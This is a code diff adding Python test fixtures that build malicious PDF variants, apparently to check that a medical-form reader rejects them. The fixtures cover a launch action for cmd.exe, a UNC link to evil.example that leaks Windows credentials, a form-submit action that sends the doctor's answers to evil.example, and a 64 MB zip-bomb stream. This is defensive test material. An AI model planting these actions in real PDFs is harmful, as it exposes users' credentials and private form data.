@@ -230,6 +230,94 @@ def deeply_nested() -> bytes:
     return _edit_with_pikepdf(filled(), edit)
 
 
+def _action(**kw) -> pikepdf.Dictionary:
+    return pikepdf.Dictionary(Type=pikepdf.Name.Action, **kw)
+
+
+def with_launch_action() -> bytes:
+    """Opening the file would start a program."""
+    def edit(doc):
+        doc.Root.OpenAction = _action(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
+    return _edit_with_pikepdf(filled(), edit)
+
+
+def _link(doc, action) -> None:
+    doc.pages[0].Annots.append(doc.make_indirect(pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([10, 10, 30, 30]), A=action)))
+
+
+def with_uri_link() -> bytes:
+    return _edit_with_pikepdf(filled(), lambda doc: _link(doc, _action(
+        S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/"))))
+
+
+def with_unc_gotor() -> bytes:
+    """A link to a file on a Windows share: opening it leaks the user's Windows credentials."""
+    return _edit_with_pikepdf(filled(), lambda doc: _link(doc, _action(
+        S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil.example\\share\\x.pdf"), D=pikepdf.Array([0]))))
+
+
+def with_submit_form() -> bytes:
+    """A button that sends the form (the doctor's answers) to an outside address."""
+    def edit(doc):
+        doc.Root.AcroForm.Fields[0].AA = pikepdf.Dictionary(Bl=_action(
+            S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/collect")))
+    return _edit_with_pikepdf(filled(), edit)
+
+
+def with_rich_media() -> bytes:
+    def edit(doc):
+        doc.pages[0].Annots.append(doc.make_indirect(pikepdf.Dictionary(
+            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=pikepdf.Array([10, 10, 30, 30]))))
+    return _edit_with_pikepdf(filled(), edit)
+
+
+def with_xfa() -> bytes:
+    def edit(doc):
+        doc.Root.AcroForm.XFA = doc.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
+    return _edit_with_pikepdf(filled(), edit)
+
+
+def opening_at_a_page() -> bytes:
+    """/OpenAction as a destination (open at page 1, fit): what ordinary PDF writers do; harmless."""
+    def edit(doc):
+        doc.Root.OpenAction = pikepdf.Array([doc.pages[0].obj, pikepdf.Name.Fit])
+    return _edit_with_pikepdf(filled(), edit)
+
+
+def handwritten_pdf(objects: list[bytes]) -> bytes:
+    """A PDF written byte by byte (object 1 is the catalog), with a correct cross-reference table:
+    for shapes no PDF library would write."""
+    out = bytearray(b"%PDF-1.7\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
+    return bytes(out)
+
+
+def claiming_many_pages(count: int = 99_000) -> bytes:
+    """A page tree that says it holds ``count`` pages (a PDF library would correct the count)."""
+    return handwritten_pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
+                            b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count,
+                            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"])
+
+
+def with_inflating_stream(size: int = 64 * 1024 * 1024) -> bytes:
+    """A stream that inflates to ``size`` bytes (a zip bomb): never decoded when reading answers."""
+    import zlib
+
+    def edit(doc):
+        bomb = pikepdf.Stream(doc, zlib.compress(bytes(size), 9))
+        bomb.Filter = pikepdf.Name.FlateDecode
+        doc.Root.Extra = doc.make_indirect(bomb)
+    return _edit_with_pikepdf(filled(), edit)
+
+
 def from_other_arende() -> bytes:
     return fill_with_pypdf(issued(OTHER_ARENDE_ID), DOCTOR_VALUES)
 
